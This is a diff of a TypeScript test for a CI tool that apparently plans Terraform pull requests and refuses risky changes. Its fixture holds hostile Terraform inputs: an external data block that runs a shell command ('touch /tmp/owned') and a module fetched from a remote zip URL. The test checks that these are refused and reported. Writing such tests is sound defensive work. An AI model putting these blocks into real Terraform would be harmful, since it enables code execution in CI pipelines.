@@ -43,6 +43,7 @@ const CHANGED = {
   "stacks/people/main.tf": (text: string) =>
     `${text}\ndata "external" "owned" {\n  program = ["touch", "/tmp/owned"]\n}\n`,
   "stacks/people/evil.tf": 'module "owned" {\n  source = "https://example.com/owned.zip"\n}\n',
+  ".github/workflows/preview.yml": "",
   ".terraform.lock.hcl": "",
   "ci/apply.yml": "",
 };
@@ -112,7 +113,8 @@ test.each([
 
   await request("evil", await scene.push("evil", CHANGED));
   expect(scene.comment()).toContain(
-    "This request changes `.terraform.lock.hcl` `ci/apply.yml` `stacks/people/evil.tf` `stacks/people/main.tf`, which decides",
+    "This request changes `.github/workflows/preview.yml` `.terraform.lock.hcl` `ci/apply.yml` " +
+      "`stacks/people/evil.tf` `stacks/people/main.tf`, which decides",
   );
   for (const line of BASE) expect(scene.comment()).toContain(line);
   for (const [index, [name, text, why]] of REFUSED.entries()) {
@@ -125,6 +127,13 @@ test.each([
 
   expect(await apply(await scene.merge("honest"))).toContain("Invite `vera@example.com`");
   expect(scene.roles()).toMatchObject({ "ada@example.com": "admin", "vera@example.com": "viewer" });
+
+  // What is changed beside the people is told, and planned after the merge.
+  const loud = (text: string) => text.replace("= each.value.last_name", "= upper(each.value.last_name)");
+  await request("loud", await scene.push("loud", { "stacks/people/main.tf": loud }));
+  expect(scene.comment()).toContain("This request changes `stacks/people/main.tf`, which decides");
+  expect(scene.comment()).not.toContain("EXAMPLE");
+  expect(await apply(await scene.merge("loud"))).toContain("EXAMPLE");
 });
 
 test("what lies there is as terraform fmt writes it", () => {
